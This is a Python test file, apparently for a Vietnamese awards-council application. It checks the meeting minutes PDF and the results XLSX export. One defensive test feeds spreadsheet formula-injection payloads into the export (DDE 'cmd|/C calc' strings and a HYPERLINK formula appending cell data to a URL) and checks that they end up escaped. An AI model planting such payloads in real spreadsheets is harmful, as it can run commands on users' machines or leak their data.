"""The minutes (biên bản họp và kiểm phiếu) as PDF and the results as XLSX: what they say, in
Vietnamese whatever the reader's language, counts per item and never a member beside a choice."""

from __future__ import annotations

import io
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pdfplumber
import pytest
from flask import Flask
from flask_babel import force_locale
from pypdf import PdfReader

from recognition.auth.enums import Role
from recognition.campaigns.enums import NomineeKind, VoteBase, VoteMethod
from recognition.common.i18n import long_date
from recognition.council import services
from recognition.council.enums import Choice, SessionKind
from recognition.council.minutes import (
    ItemLine,
    in_sentence,
    minutes_view,
    render_minutes,
    result_text,
    results_workbook,
    vietnamese_view,
)
from recognition.database import local_today
from recognition.extensions import db
from recognition.units.settings import stored_settings
from tests.council.helpers import (
    HELD_ON,
    accepted,
    award_with,
    client_for,
    new_session,
    pdf_text,
    roll,
    seat,
    seat_council,
    vote_all,
    xlsx_rows,
)
from tests.support.factories import grant
from tests.workflow.helpers import build_scene, new_hamlet

pytestmark = pytest.mark.integration

A, D, X = Choice.AGREE, Choice.DISAGREE, Choice.ABSTAIN


@pytest.fixture(autouse=True)
def _english(app: Flask) -> Iterator[None]:
    # A reader who uses the app in English: the minutes stay Vietnamese.
    with app.test_request_context(), force_locale("en"):
        yield


def squeezed(text: str) -> str:
    return "".join(text.split())


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("Huyện Chợ Lách", "huyện Chợ Lách"),
        ("Xã Sơn Định", "xã Sơn Định"),
        ("Thị trấn Chợ Lách", "thị trấn Chợ Lách"),
        ("Tỉnh Vĩnh Long", "tỉnh Vĩnh Long"),
        ("Thành phố Bến Tre", "thành phố Bến Tre"),
        ("Phường 1", "phường 1"),
        ("Văn phòng UBND huyện", "Văn phòng UBND huyện"),
    ],
)
@pytest.mark.no_database
def test_a_units_name_inside_a_sentence(name: str, expected: str) -> None:
    assert in_sentence(name) == expected


def meeting(scene):  # type: ignore[no-untyped-def]
    """9 members, 8 present; a passing ballot item with a conflict, a failing one with
    abstentions, and a show of hands."""
    seats = seat_council(scene, size=9)
    grant(seats[8].user, Role.NOMINATOR, scene.commune_a)  # in conflict on both hamlets
    may_abstain = award_with(
        scene,
        code="LDTT",
        name="Lao động tiên tiến",
        threshold=Decimal("66.67"),
        base=VoteBase.ALL_MEMBERS,
        abstain_allowed=True,
    )
    hands = award_with(scene, code="GK", name="Giấy khen", method=VoteMethod.SHOW_OF_HANDS)
    session = new_session(
        scene,
        [
            accepted(scene, nominee=new_hamlet(scene, "Ấp Phú Hòa")),
            accepted(scene, may_abstain, nominee=new_hamlet(scene, "Ấp Phú Thuận")),
            accepted(scene, hands, nominee=new_hamlet(scene, "Ấp Phú Lợi")),
        ],
        present=8,
    )
    services.open_vote(session, actor=scene.secretariat)
    first, second, third = session.items
    present = [a.member for a in session.attendance if a.present]
    eligible = [m for m in present if m.user_id != seats[8].user_id]
    vote_all(first, [A] * 6 + [D], eligible)
    vote_all(second, [A] * 5 + [D, X], eligible)
    services.record_hands(third, agree=6, disagree=1, abstain=0)
    services.close_vote(session, actor=scene.chair, chair_approved=True)
    return session


def test_the_minutes_view_holds_attendance_and_counts_per_item() -> None:
    scene = build_scene()
    session = meeting(scene)
    absent = session.attendance[8].member.user.full_name

    view = minutes_view(session)

    assert (view.body, view.body_upper, view.body_in_sentence, view.written) == (
        "Huyện Chợ Lách",
        "HUYỆN CHỢ LÁCH",
        "huyện Chợ Lách",
        False,
    )
    # The council's secretary is absent and nobody was chosen: the first member present after
    # the chair in the list keeps the minutes.
    assert (view.chair, view.secretary, view.members_total) == (
        "Nguyễn Văn Chủ",
        "Huỳnh Văn Lợi",
        9,
    )
    assert (len(view.present), view.in_writing, view.absent) == (
        8,
        [],
        [f"{absent} — Secretary of the council"],
    )
    assert view.items == [
        ItemLine(
            number=1,
            nominee="Ấp Phú Hòa",
            award="Tập thể tiêu biểu",
            unit="Xã Sơn Định",
            method="Secret ballot",
            members=8,
            participants=7,
            voted=7,
            written=0,
            agree=6,
            disagree=1,
            abstain=0,
            base=7,
            required=5,
            percent="85,7",
            passed=True,
            outcome="Đạt",
            reason="Đủ tỷ lệ phiếu đồng ý theo quy định",
            conflicts=["Lê Thị Thành Viên 7 (belongs to or nominates for the nominee's unit)"],
            not_voting=2,
            result="6/7 (85,7 %)",
        ),
        ItemLine(
            number=2,
            nominee="Ấp Phú Thuận",
            award="Lao động tiên tiến",
            unit="Xã Sơn Định",
            method="Secret ballot",
            members=8,
            participants=7,
            voted=7,
            written=0,
            agree=5,
            disagree=1,
            abstain=1,
            base=8,
            required=6,
            percent="62,5",
            passed=False,
            outcome="Không đạt",
            reason="Không đủ tỷ lệ phiếu đồng ý",
            conflicts=["Lê Thị Thành Viên 7 (belongs to or nominates for the nominee's unit)"],
            not_voting=2,
            result="5/8 (62,5 %)",
        ),
        ItemLine(
            number=3,
            nominee="Ấp Phú Lợi",
            award="Giấy khen",
            unit="Xã Sơn Định",
            method="Show of hands",
            members=8,
            participants=7,
            voted=7,
            written=0,
            agree=6,
            disagree=1,
            abstain=0,
            base=7,
            required=5,
            percent="85,7",
            passed=True,
            outcome="Đạt",
            reason="Đủ tỷ lệ phiếu đồng ý theo quy định",
            conflicts=["Lê Thị Thành Viên 7 (belongs to or nominates for the nominee's unit)"],
            not_voting=2,
            result="6/7 (85,7 %)",
        ),
    ]


def test_a_seat_that_has_ended_is_named_by_the_seat_not_by_todays_post() -> None:
    # A 2024 district council's chair printed as "Chủ tịch UBND xã Phú Phụng", a 2026 post.
    from datetime import date

    scene = build_scene()
    session = meeting(scene)
    for line in session.attendance:
        line.member.user.position = "Chủ tịch UBND xã Phú Phụng"
    current = minutes_view(session).present[0]
    for line in session.attendance:
        line.member.term_end = date(2025, 6, 30)
    ended = minutes_view(session).present[0]

    assert current.endswith("— Chủ tịch UBND xã Phú Phụng")
    assert not ended.endswith("Chủ tịch UBND xã Phú Phụng") and " — " in ended


def test_the_printed_view_is_vietnamese_whatever_the_readers_language() -> None:
    scene = build_scene()
    session = meeting(scene)

    english, vietnamese = minutes_view(session), vietnamese_view(session)

    assert (english.held_on, english.items[0].method) == ("10 July 2025", "Secret ballot")
    assert (vietnamese.held_on, vietnamese.place_date, vietnamese.items[0].method) == (
        "ngày 10 tháng 7 năm 2025",
        "Chợ Lách, ngày 10 tháng 7 năm 2025",
        "Bỏ phiếu kín",
    )
    assert [line.method for line in vietnamese.items] == [
        "Bỏ phiếu kín",
        "Bỏ phiếu kín",
        "Biểu quyết giơ tay",
    ]


def test_the_minutes_date_line_names_the_place_of_the_body_s_settings() -> None:
    # The same source as the decision's date line (the "Địa danh" setting), not the unit's name.
    scene = build_scene()
    session = meeting(scene)
    stored_settings(scene.body).place_name = "Vĩnh Long"

    text = squeezed(pdf_text(render_minutes(session)))

    assert (
        vietnamese_view(session).place_date,
        squeezed("Vĩnh Long, ngày 10 tháng 7 năm 2025") in text,
    ) == (
        "Vĩnh Long, ngày 10 tháng 7 năm 2025",
        True,
    )


def test_the_minutes_pdf_is_a4_in_liberation_serif_with_the_record_of_the_vote() -> None:
    scene = build_scene()
    session = meeting(scene)

    pdf = render_minutes(session)
    reader = PdfReader(io.BytesIO(pdf))
    text = pdf_text(pdf)
    fonts = {
        str(font.get_object()["/BaseFont"]).lstrip("/").split("+", 1)[-1]
        for page in reader.pages
        for font in page["/Resources"]["/Font"].values()
    }

    assert [
        (round(float(p.mediabox.width)), round(float(p.mediabox.height))) for p in reader.pages
    ] == [(595, 842)] * len(reader.pages)
    assert {f.split("-")[0] for f in fonts} == {"Liberation"}
    for expected in (
        "HỘI ĐỒNG THI ĐUA - KHEN THƯỞNG",
        "HUYỆN CHỢ LÁCH",
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "Chợ Lách, ngày 10 tháng 7 năm 2025",
        "BIÊN BẢN HỌP VÀ KIỂM PHIẾU",
        "Phiên họp xét khen thưởng đợt 1 năm 2025",
        "Thời gian: ngày 10 tháng 7 năm 2025. Địa điểm: Hội trường UBND huyện Chợ Lách.",
        "Hội đồng Thi đua - Khen thưởng huyện Chợ Lách có 9 thành viên.",
        "Thành viên có mặt (8):",
        "Thành viên vắng mặt (1):",
        "Số thành viên có mặt: 8/9; vắng mặt, cho ý kiến bằng văn bản: 0; vắng mặt, không cho "
        "ý kiến: 1.",
        "Chủ tọa: Nguyễn Văn Chủ. Thư ký: Huỳnh Văn Lợi.",
    ):
        assert squeezed(expected) in squeezed(text), expected
    for row in (
        "1ẤpPhúHòaXãSơnĐịnhTậpthểtiêubiểuBỏphiếukín726106/7(85,7%)(cần5/7)Đạt",
        "2ẤpPhúThuậnXãSơnĐịnhLaođộngtiêntiếnBỏphiếukín725115/8(62,5%)(cần6/8)Khôngđạt"
        "Khôngđủtỷlệphiếuđồngý",
        "3ẤpPhúLợiXãSơnĐịnhGiấykhenBiểuquyếtgiơtay726106/7(85,7%)(cần5/7)Đạt",
    ):
        assert row in squeezed(text), text
    assert squeezed(
        "Không tham gia biểu quyết (xung đột lợi ích): Lê Thị Thành Viên 7"
    ) in squeezed(text)
    assert [m.user.full_name for m in roll(session) if m.user.full_name not in text] == []


def test_a_written_consultation_has_its_own_minutes() -> None:
    scene = build_scene()
    seat_council(scene, size=6)
    consulted = award_with(scene, code="TTLD", name="Tập thể lao động", base=VoteBase.CONSULTED)
    session = new_session(scene, [accepted(scene, consulted)], kind=SessionKind.WRITTEN, present=5)
    services.open_vote(session, actor=scene.secretariat)
    vote_all(session.items[0], [A, A, A, A, D], roll(session))
    services.close_vote(session, actor=scene.secretariat, chair_approved=False)

    text = pdf_text(render_minutes(session))
    with force_locale("vi"):
        counted = long_date(local_today())  # the vote closed today

    for expected in (
        "BIÊN BẢN KIỂM PHIẾU LẤY Ý KIẾN BẰNG VĂN BẢN",
        "Thời gian lấy ý kiến: từ ngày 10 tháng 7 năm 2025 đến ngày 10 tháng 7 năm 2025.",
        "Thành viên được lấy ý kiến (5):",
        "Thành viên không được lấy ý kiến (1):",
        "Số thành viên được lấy ý kiến bằng văn bản: 5/6;",
        "Chủ tịch Hội đồng: ",
        f"Biên bản được lập xong vào {counted}, sau khi kiểm phiếu lấy ý kiến "
        "bằng văn bản của các thành viên Hội đồng.",
    ):
        assert squeezed(expected) in squeezed(text), expected
    # Each item asked in writing, whatever its title's method at a meeting; no meeting is told.
    assert (
        "TậpthểlaođộngLấyýkiếnbằngvănbản5(trongđó5bằngvănbản)14104/5(80,0%)(cần4/5)Đạt"
        in squeezed(text)
    ), text
    assert "đọc lại" not in text and "Chủ tọa" not in text


def test_a_quorum_lost_to_a_declared_conflict_is_explained() -> None:
    # 9 members, 6 present: a quorum when the vote opens; one present member then declares a
    # conflict, leaving 5 of 8 eligible.
    scene = build_scene()
    seat_council(scene, size=9)
    session = new_session(scene, [accepted(scene)], present=6)
    services.open_vote(session, actor=scene.secretariat)
    item = session.items[0]
    services.declare_conflict(item, seat(session, scene.council_member), reason="Người thân")
    vote_all(item, [A] * 5, [a.member for a in session.attendance if a.present][2:])
    services.close_vote(session, actor=scene.secretariat, chair_approved=False)

    line = vietnamese_view(session).items[0]

    assert (line.members, line.participants, line.agree, line.outcome, line.reason) == (
        8,
        5,
        4,
        "Không đạt",
        "Không đủ số thành viên tham dự theo quy định",
    )
    assert line.conflicts == ["Huỳnh Văn Lợi (Người thân)"]


def test_the_results_workbook_has_one_row_per_item(app: Flask) -> None:
    scene = build_scene()
    session = meeting(scene)

    rows = xlsx_rows(results_workbook(session))

    assert rows[:3] == [
        ("Phiên họp xét khen thưởng đợt 1 năm 2025",) + (None,) * 15,
        ("Huyện Chợ Lách", "ngày 10 tháng 7 năm 2025") + (None,) * 14,
        (None,) * 16,
    ]
    assert rows[4:] == [
        (
            1,
            "Ấp Phú Hòa",
            "Tập thể tiêu biểu",
            "Xã Sơn Định",
            "Bỏ phiếu kín",
            8,
            7,
            7,
            6,
            1,
            0,
            7,
            5,
            85.7,
            "Đạt",
            "Đủ tỷ lệ phiếu đồng ý theo quy định",
        ),
        (
            2,
            "Ấp Phú Thuận",
            "Lao động tiên tiến",
            "Xã Sơn Định",
            "Bỏ phiếu kín",
            8,
            7,
            7,
            5,
            1,
            1,
            8,
            6,
            62.5,
            "Không đạt",
            "Không đủ tỷ lệ phiếu đồng ý",
        ),
        (
            3,
            "Ấp Phú Lợi",
            "Giấy khen",
            "Xã Sơn Định",
            "Biểu quyết giơ tay",
            8,
            7,
            7,
            6,
            1,
            0,
            7,
            5,
            85.7,
            "Đạt",
            "Đủ tỷ lệ phiếu đồng ý theo quy định",
        ),
    ]


def test_minutes_and_results_exist_only_once_the_vote_is_closed(app: Flask) -> None:
    scene = build_scene()
    seat_council(scene, size=9)
    session = new_session(scene, [accepted(scene)])
    session_id = session.id
    db.session.commit()
    client = client_for(app, scene.secretariat)
    base = f"/council/sessions/{session_id}"

    before = [
        client.get(f"{base}/minutes.pdf").status_code,
        client.get(f"{base}/results.xlsx").status_code,
    ]
    services.open_vote(session, actor=scene.secretariat)
    db.session.commit()
    during = [
        client.get(f"{base}/minutes.pdf").status_code,
        client.get(f"{base}/results.xlsx").status_code,
    ]
    services.close_vote(session, actor=scene.secretariat, chair_approved=False)
    db.session.commit()
    pdf, xlsx = client.get(f"{base}/minutes.pdf"), client.get(f"{base}/results.xlsx")

    assert (before, during) == ([404, 404], [404, 404])
    assert (pdf.status_code, pdf.mimetype, pdf.headers["Content-Disposition"]) == (
        200,
        "application/pdf",
        f"inline; filename=bien-ban-{session_id}.pdf",
    )
    assert (xlsx.status_code, xlsx.mimetype, xlsx.headers["Content-Disposition"]) == (
        200,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        f"attachment; filename=ket-qua-{session_id}.xlsx",
    )
    assert HELD_ON.year == 2025


# --- formula injection (docs/reliability.md, "Exports") ------------------------------------------

HYPERLINK = '=HYPERLINK("http://x"&C4,"Bấm để xem")'


def xlsx_cells(data: bytes) -> dict[str, tuple[str, Any]]:
    """Every cell of the first sheet that holds something: coordinate → (data type, value)."""
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(data)).active
    return {
        cell.coordinate: (cell.data_type, cell.value)
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }


def test_the_results_workbook_keeps_every_text_from_users_a_plain_string() -> None:
    scene = build_scene()
    seat_council(scene, size=3)
    scene.body.name = "\r=2+2"
    scene.commune_a.name = "\t=1+1"
    formula_award = award_with(scene, code="F1", name="-2+3+cmd|' /C calc'!A0")
    person_award = award_with(
        scene, code="F2", name="+cmd|' /C calc'!A0", nominee_kind=NomineeKind.INDIVIDUAL
    )
    session = new_session(
        scene,
        [
            accepted(scene, formula_award, nominee=new_hamlet(scene, HYPERLINK)),
            accepted(scene, person_award, person_name="=1+1"),
            accepted(scene, nominee=new_hamlet(scene, "Ấp Phú Hòa")),
        ],
    )
    session.title = '@HYPERLINK("http://x")'
    services.open_vote(session, actor=scene.secretariat)
    for item in session.items:
        vote_all(item, [A, A, A], roll(session))
    services.close_vote(session, actor=scene.chair, chair_approved=True)

    cells = xlsx_cells(results_workbook(session))

    assert [name for name, (kind, _value) in cells.items() if kind == "f"] == []
    assert (cells["A1"], cells["A2"]) == (
        ("s", '\'@HYPERLINK("http://x")'),
        ("s", "'\r=2+2"),
    )
    assert [tuple(cells[f"{column}{row}"] for column in "BCD") for row in (5, 6, 7)] == [
        (("s", "Ấp Phú Hòa"), ("s", "Tập thể tiêu biểu"), ("s", "'\t=1+1")),
        (("s", "'" + HYPERLINK), ("s", "'-2+3+cmd|' /C calc'!A0"), ("s", "'\t=1+1")),
        (("s", "'=1+1"), ("s", "'+cmd|' /C calc'!A0"), ("s", "'\t=1+1")),
    ]


# --- as the chairman reads them -------------------------------------------------------------


@pytest.mark.parametrize(
    ("agree", "base", "participants", "expected"),
    [
        (7, 9, 9, "7/9 (77,8 %)"),
        (6, 7, 7, "6/7 (85,7 %)"),
        (0, 0, 0, "0/0"),
        # A base of members present, when absentees also voted in writing: never above 100 %.
        (9, 7, 9, "9/9 (100,0 %)"),
    ],
)
@pytest.mark.no_database
def test_the_result_reads_votes_of_the_base_and_never_above_100(
    agree: int, base: int, participants: int, expected: str
) -> None:
    assert result_text(agree, base, participants) == expected


def test_the_minutes_name_the_acting_secretary_and_keep_the_signatures_with_the_text(
    tmp_path: Path,
) -> None:
    scene = build_scene()
    session = meeting(scene)

    pdf = render_minutes(session)
    (tmp_path / "minutes.pdf").write_bytes(pdf)

    with pdfplumber.open(io.BytesIO(pdf)) as document:
        pages = [" ".join((page.extract_text() or "").split()) for page in document.pages]
        last = document.pages[-1]
        closing = last.search("Biên bản được lập xong")
        signers = last.search("THƯ KÝ")
        names = last.search("Huỳnh Văn Lợi")
        chair = last.search("CHỦ TỊCH HỘI ĐỒNG")
    text = " ".join(pages)
    assert (
        "Chủ tọa: Nguyễn Văn Chủ. Thư ký: Huỳnh Văn Lợi." in text,
        "Số thành viên có mặt: 8/9; vắng mặt, cho ý kiến bằng văn bản: 0; vắng mặt, không cho "
        "ý kiến: 1." in text,
        "6/7 (85,7 %)" in text,
        "5/8 (62,5 %)" in text,
    ) == (True, True, True, True)
    # The closing paragraph and both signatures on the same (last) page, the acting secretary
    # signing under "THƯ KÝ", beside the chair.
    assert (len(closing), len(signers), len(chair)) == (1, 1, 1)
    assert (
        closing[0]["top"] < signers[0]["top"],
        abs(signers[0]["top"] - chair[0]["top"]) < 1,
        max(n["top"] for n in names) > signers[0]["top"] + 20,
    ) == (True, True, True)


def test_minutes_keep_the_appointed_secretary_when_present() -> None:
    scene = build_scene()
    seat_council(scene, size=6)
    session = new_session(scene, [accepted(scene)], present=6)

    view = minutes_view(session)

    assert view.secretary == "Lê Thị Thành Viên 1"


def test_members_present_who_leave_their_ballot_uncast_do_not_count_as_voting() -> None:
    # 9 on the roll, all present; 6 cast their ballot. The minutes say 6 voted and 3 did not,
    # while the base (members present) keeps the 9.
    scene = build_scene()
    seat_council(scene, size=9)
    session = new_session(scene, [accepted(scene)], present=9)
    services.open_vote(session, actor=scene.secretariat)
    vote_all(session.items[0], [A] * 4 + [D], roll(session)[:5])
    services.close_vote(session, actor=scene.chair, chair_approved=True)

    line = vietnamese_view(session).items[0]
    text = squeezed(pdf_text(render_minutes(session)))
    rows = xlsx_rows(results_workbook(session))

    assert (line.participants, line.voted, line.not_voting) == (9, 5, 4)
    assert "54410" in text  # voted, not voting, agree, disagree, abstain
    assert rows[4][6:10] == (9, 5, 4, 1)


def test_absentees_voting_in_writing_are_counted_apart_from_those_present() -> None:
    # 9 members: 7 present, the last 2 (the secretary among them) absent but voting in writing.
    scene = build_scene()
    seat_council(scene, size=9)
    session = new_session(scene, [accepted(scene)], present=7)
    services.set_attendance(
        session,
        {a.member_id: "present" if i < 7 else "writing" for i, a in enumerate(session.attendance)},
    )
    services.open_vote(session, actor=scene.secretariat)
    vote_all(session.items[0], [A] * 8 + [D], roll(session))
    services.close_vote(session, actor=scene.chair, chair_approved=True)

    view = vietnamese_view(session)
    text = squeezed(pdf_text(render_minutes(session)))

    line = view.items[0]
    assert (
        len(view.present),
        len(view.in_writing),
        len(view.absent),
        line.participants,
        line.written,
        line.not_voting,
        line.result,
        view.secretary,
    ) == (7, 2, 0, 9, 2, 0, "8/9 (88,9 %)", "Huỳnh Văn Lợi")
    assert [
        s
        for s in (
            "Số thành viên có mặt: 7/9; vắng mặt, cho ý kiến bằng văn bản: 2; vắng mặt, "
            "không cho ý kiến: 0.",
            "Thành viên cho ý kiến bằng văn bản (2):",
            "9(trongđó2bằngvănbản)08108/9(88,9%)",
        )
        if squeezed(s) not in text
    ] == [], text
